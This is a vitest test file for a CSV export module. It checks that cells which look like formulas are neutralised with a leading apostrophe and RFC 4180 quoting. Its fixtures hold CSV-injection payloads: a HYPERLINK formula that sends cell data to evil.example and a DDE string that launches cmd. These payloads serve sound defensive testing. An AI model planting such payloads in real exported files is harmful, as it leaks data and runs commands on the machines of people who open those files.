// CSV formula injection (OWASP): a cell a spreadsheet would read as a formula is written as text —
// a leading apostrophe, quoted — in every column of the events CSV.
import { describe, expect, it } from 'vitest';
import { csvField, eventsCsv } from '../../../renderer/src/domain/export/csv';
import { englishExportLabels as labels } from '../../../renderer/src/domain/export/labels';
import { makeEvent, makeIssue, makeModel } from './export-factories';
import { readCsv } from './read-csv';

const hyperlinkTag = '=HYPERLINK("http://evil.example/?x="&B2,"详情")';

describe('csvField', () => {
  it.each([
    [hyperlinkTag, `"'=HYPERLINK(""http://evil.example/?x=""&B2,""详情"")"`],
    ['+86 510 8276 0000 热线开通', `"'+86 510 8276 0000 热线开通"`],
    ['--03-04', `"'--03-04"`],
    ["@SUM(1+1)*cmd|' /C calc'!A0", `"'@SUM(1+1)*cmd|' /C calc'!A0"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
  ])('neutralises %j', (cell, written) => {
    expect(csvField(cell)).toBe(written);
  });

  it.each([
    ['城市更新', '城市更新'],
    ['2022-09-12', '2022-09-12'],
    ['1-8月规上工业产值增长12.5%', '1-8月规上工业产值增长12.5%'],
    ['许峰 = 江阴市委书记', '许峰 = 江阴市委书记'],
    ['签约, "国联集团"', '"签约, ""国联集团"""'],
  ])('leaves %j as it was (quoted only where RFC 4180 needs it)', (cell, written) => {
    expect(csvField(cell)).toBe(written);
  });
});

describe('the events CSV with hostile cells', () => {
  it('writes every formula-like cell as text, and a yearless date too', () => {
    const model = makeModel([
      makeIssue({
        title: '=1+1 一周',
        events: [makeEvent({ date: '--03-04', place: '@江阴', summary: '-主持召开推进会', tags: [hyperlinkTag] })],
      }),
    ]);
    const [, row] = readCsv(eventsCsv(model, labels).slice(1));
    expect(row).toEqual([
      "'--03-04",
      '市委常委、江阴市委书记许峰',
      "'@江阴",
      '会议',
      "'-主持召开推进会",
      `'${hyperlinkTag}`,
      'confirmed',
      "'=1+1 一周",
      '2022-09-19T14:38:35',
    ]);
  });
});
